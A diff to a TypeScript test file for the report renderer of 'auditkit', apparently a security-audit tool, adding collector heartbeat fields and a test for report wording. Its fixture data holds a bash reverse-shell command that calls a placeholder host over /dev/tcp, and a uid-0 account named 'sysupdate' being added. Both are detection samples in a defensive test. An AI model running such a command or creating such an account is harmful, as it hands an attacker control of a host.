@@ -9,11 +9,11 @@ const data: ReportData = {
   empty: false,
   headline: { events: { current: 10, previous: 5, delta: 5, pct: 100 }, commands: zero, hosts: zero, users: zero, alerts: { current: 1, previous: 0, delta: 1 }, alertsBySeverity: { critical: { current: 1, previous: 0, delta: 1 }, high: zero, medium: zero, low: zero } },
   daily: [], alertRules: [{ id: 'r', name: 'Reverse <shell>', severity: 'critical', count: 1, hosts: [{ key: 'web-01', count: 1 }] }], alertHosts: [],
-  dangerousCommands: [{ time: '2026-10-25T20:40:00.000Z', host: 'web-01', user: 'www-data', loginUser: '', sourceIp: '', tty: '', command: 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1', rule: 'Reverse <shell>', severity: 'critical' }],
+  dangerousCommands: [{ time: '2026-10-25T20:40:00.000Z', host: 'web-01', user: 'www-data', loginUser: '', sourceIp: '', tty: '', command: 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1', rule: 'Reverse <shell>', severity: 'critical', sources: ['hook'] }],
   dangerousCommandsTotal: 1,
   logins: { successes: 0, failures: 0, failuresBySourceIp: [], failuresByUser: [], newSourceIps: [] },
   privilege: [], accountChanges: [], accountChangesTotal: 0, topCommands: [], topUsers: [], topHosts: [],
-  collectors: { reporting: 1, silentHosts: [], dropping: [] },
+  collectors: { reporting: 1, eventHosts: 1, withoutHeartbeat: [], deadletteredAfter: 0, silentHosts: [], dropping: [] },
 };
 
 describe('report rendering', () => {
@@ -33,6 +33,15 @@ describe('report rendering', () => {
     const r = renderReport(data, { locale: 'en' });
     expect(r.text).toContain('2026-10-25 00:00 +02:00 – 2026-10-26 00:00 +01:00 (Europe/Berlin)');
     expect(r.subject).toBe('auditkit security report 2026-10-25: 1 Alerts (1 Critical)');
+  });
+
+  it('says "new" against an empty previous period, names the period in the title and shows the account uid', () => {
+    const r = renderReport({ ...data, accountChanges: [{ time: '2026-10-25T10:00:00.000Z', host: 'app-02', action: 'added-user-account', target: 'sysupdate', targetId: '0', group: '', by: 'mia.zhang' }], accountChangesTotal: 1 }, { locale: 'en' });
+    expect(r.text).toContain('Alerts: 1 (new)');
+    expect(r.text).toContain('Events: 10 (▲ +5 (+100%))');
+    expect(r.text.split('\n')[0]).toBe('Daily · Security report · 2026-10-25');
+    expect(r.text).toContain('added-user-account sysupdate (uid 0) (mia.zhang)');
+    expect(r.text).toContain('Every host with events sent collector heartbeats.');
   });
 
   it('writes a CSV that spreadsheets cannot execute', () => {
